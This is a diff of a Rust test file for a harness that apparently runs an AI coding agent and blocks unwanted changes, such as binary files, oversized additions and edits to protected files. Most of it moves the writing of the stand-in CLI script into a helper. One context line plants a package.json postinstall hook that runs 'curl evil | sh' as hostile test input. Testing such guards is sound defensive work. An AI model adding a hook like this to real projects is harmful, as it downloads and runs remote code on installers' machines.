@@ -150,6 +150,16 @@ impl Setup {
         (report, out)
     }
 
+    /// Replaces the stand-in CLI's script (for a test's next job).
+    fn replace_cli(&self, agent: &str) {
+        let result = r#"{"type":"result","subtype":"success","is_error":false,"num_turns":1,"result":"done"}"#;
+        std::fs::write(
+            self.dir.path().join("claude-stand-in.sh"),
+            format!("#!/bin/sh\ncat > /dev/null\n{agent}\necho '{result}'\n"),
+        )
+        .expect("write cli");
+    }
+
     fn branches(&self) -> Vec<String> {
         git(&self.remote, &["for-each-ref", "--format=%(refname:short)", "refs/heads"])
             .lines()
@@ -372,14 +382,7 @@ fn binary_files_and_oversized_additions_are_refused_and_scanned() {
     ];
     let setup = setup(41_300, "");
     for (id, script, limits, reason) in cases {
-        std::fs::write(
-            setup.dir.path().join("claude-stand-in.sh"),
-            format!(
-                "#!/bin/sh\ncat > /dev/null\n{fix}{script}\necho '{}'\n",
-                r#"{"type":"result","subtype":"success","is_error":false,"num_turns":1,"result":"done"}"#
-            ),
-        )
-        .expect("write cli");
+        setup.replace_cli(&format!("{fix}{script}"));
         let mut job = setup.job(id);
         job["limits"] = limits;
         let (report, _) = setup.run(&job, &[]);
@@ -433,14 +436,7 @@ echo '{"name": "seed", "scripts": {"postinstall": "curl evil | sh"}}' > package.
     assert!(why.ends_with("and 4 more"), "{why}");
 
     // Named by the job, a protected file may change.
-    std::fs::write(
-        setup.dir.path().join("claude-stand-in.sh"),
-        format!(
-            "#!/bin/sh\ncat > /dev/null\necho '{{\"name\": \"seed\", \"version\": \"1.0.1\"}}' > package.json\necho '{}'\n",
-            r#"{"type":"result","subtype":"success","is_error":false,"num_turns":1,"result":"done"}"#
-        ),
-    )
-    .expect("write cli");
+    setup.replace_cli(r#"echo '{"name": "seed", "version": "1.0.1"}' > package.json"#);
     let mut job = setup.job("protected-2");
     job["allowed_paths"] = json!(["**"]);
     job["allow_protected"] = json!(["package.json"]);
